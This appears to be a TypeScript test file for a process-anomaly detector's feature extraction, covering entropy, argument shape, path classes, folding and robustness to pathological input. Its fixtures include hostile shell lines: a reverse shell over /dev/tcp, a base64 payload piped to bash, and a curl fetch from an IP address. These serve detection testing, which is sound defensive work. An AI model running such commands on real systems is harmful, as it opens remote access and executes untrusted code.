// Feature extraction: entropy, argument shape, location classes, path folding, hour of week, and
// hostile command lines (huge, binary, pathological for regexes) that must stay fast and total.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { argumentShape, shannonEntropy } from './command-line.ts';
import { extractFeatures, foldPath, hourOfWeek } from './extract-features.ts';
import type { ProcessObservation } from './feature-row.ts';
import { locationClass } from './location-class.ts';

test('Shannon entropy in bits per character', () => {
  assert.equal(shannonEntropy(''), 0);
  assert.equal(shannonEntropy('aaaa'), 0);
  assert.equal(shannonEntropy('abab'), 1);
  assert.equal(shannonEntropy('abcd'), 2);
  assert.equal(shannonEntropy('abcd'), 2, 'no state leaks between calls');
  assert.ok(shannonEntropy('😀x😀') > 0);
});

test('argument shape: base64 blobs, URLs, IP literals and /dev/tcp', () => {
  assert.deepEqual(argumentShape('ls -la /var/log'), { base64: 0, urls: 0, ipLiterals: 0 });
  assert.deepEqual(argumentShape('sh -c echo SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0 | base64 -d | bash'), { base64: 1, urls: 0, ipLiterals: 0 });
  assert.deepEqual(argumentShape('curl -fsSL http://203.0.113.7/x.sh https://example.com/a'), { base64: 0, urls: 2, ipLiterals: 1 });
  assert.deepEqual(argumentShape('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), { base64: 0, urls: 0, ipLiterals: 2 });
  assert.equal(argumentShape('python3.11 --version 1.2.3.4.5').ipLiterals, 0, 'a version string is not an address');
  assert.equal(argumentShape('/usr/lib/firefox-esr/firefox-esr -contentproc -childID 12 -prefsLen 31337').base64, 0);
});

test('location classes', () => {
  assert.equal(locationClass('/usr/bin/ls', true), 'system');
  assert.equal(locationClass('/usr/lib/postgresql/15/bin/postgres', true), 'system');
  assert.equal(locationClass('/opt/app/bin/app', true), 'package');
  assert.equal(locationClass('/home/alice/.local/bin/x', true), 'home');
  assert.equal(locationClass('/dev/shm/.x/kswapd0', true), 'temp');
  assert.equal(locationClass('/tmp/a (deleted)', true), 'deleted');
  assert.equal(locationClass('/usr/bin/x', false), 'deleted');
  assert.equal(locationClass(null, null), 'unknown');
  assert.equal(locationClass('/srv/app/run', true), 'other');
});

test('folding makes run-specific paths one executable; hour of week starts Monday 00:00 UTC', () => {
  assert.equal(foldPath('/tmp/ci-job-48213/build.sh'), foldPath('/tmp/ci-job-50001/build.sh'));
  assert.equal(foldPath('/builds/3fa9c2d1e0/app/run'), '/builds/#/app/run');
  assert.equal(foldPath('/usr/bin/sh (deleted)'), '/usr/bin/sh');
  assert.equal(hourOfWeek(Date.UTC(2026, 10, 2, 0)), 0); // a Monday
  assert.equal(hourOfWeek(Date.UTC(2026, 10, 8, 23)), 167);
  assert.equal(hourOfWeek(0), 72); // Thursday 1970-01-01
});

const obs = (cmd: string, exe: string | null = '/usr/bin/dash'): ProcessObservation => ({
  ref: 'exec:1', source: 'exec', pid: 10, ppid: 1, start_time: Date.UTC(2026, 10, 3, 14), observed_at: Date.UTC(2026, 10, 3, 14), name: 'sh',
  executable_path: exe, command_line: cmd, parent_name: 'nginx', parent_path: '/usr/sbin/nginx', user: 'uid:33', cpu_usage: null,
  memory_usage: null, file_exists: true, sibling_spawns_5m: 5, fan_out: 0, lifetime_s: null,
});

test('a process start becomes one row of documented features', () => {
  const r = extractFeatures(obs('sh -c id'));
  assert.equal(r.categorical['parent_child'], 'nginx → dash');
  assert.equal(r.categorical['user_executable'], 'uid:33 × /usr/bin/dash');
  assert.equal(r.numeric['child_spawn_rate'], 1);
  assert.equal(r.numeric['hour_of_week'], 38);
  assert.equal(r.numeric['cpu_usage'], undefined, 'a kernel exec has no resource figures');
  assert.equal(extractFeatures(obs('x', null)).categorical['executable_path'], '[sh]');
});

test('hostile command lines: huge, binary and regex-hostile input stays total and fast', () => {
  const cases = ['A'.repeat(200_000), '1.'.repeat(50_000), 'http://'.repeat(20_000), '\u0000\uffff\ud800'.repeat(10_000),
    '/dev/tcp/'.repeat(20_000), 'aA1+'.repeat(50_000) + '=', ' '.repeat(100_000)];
  for (const c of cases) {
    const r = extractFeatures(obs(c));
    for (const v of Object.values(r.numeric)) assert.ok(Number.isFinite(v), c.slice(0, 20));
  }
});
